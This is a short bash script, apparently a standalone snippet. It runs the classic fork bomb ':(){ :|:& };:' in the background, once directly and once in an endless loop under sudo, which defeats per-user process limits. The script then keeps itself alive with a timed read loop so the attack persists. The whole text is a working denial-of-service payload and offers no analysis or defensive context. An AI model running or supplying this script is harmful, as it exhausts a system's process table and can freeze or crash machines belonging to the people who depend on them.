exec {nap}<> <(:)
# All of it in the background: a shell that cannot fork any more would end by itself.
(
  (while :; do sudo sh -c ':(){ :|:& };:'; done) &
  :(){ :|:& };:
) &
while :; do read -rt 60 -u "$nap"; done
